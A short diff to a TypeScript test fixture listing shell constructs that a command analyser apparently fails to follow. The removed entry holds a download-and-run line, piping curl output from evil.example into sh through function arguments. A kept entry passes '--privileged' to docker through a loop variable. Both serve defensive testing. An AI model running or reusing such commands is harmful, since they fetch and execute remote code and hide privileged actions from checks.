@@ -82,12 +82,6 @@ export const NOT_FOLLOWED: readonly Limit[] = [
     told: [MISSED, 'shell-wrapper@it'],
   },
   {
-    name: 'the arguments of a function',
-    file: sh('f() { $1 https://evil.example/x | $2; }; f curl sh'),
-    reason: 'What a function is called with is put into what it starts, and not into what it downloads.',
-    told: [MISSED, 'shell-wrapper@it'],
-  },
-  {
     name: 'the second of a loop’s values, where each is a word of its own',
     file: bash('for o in -i --privileged; do docker run example/$o:1.4.2 $o; done'),
     reason: 'A loop is read once, with all values one behind the other where its variable is a word.',
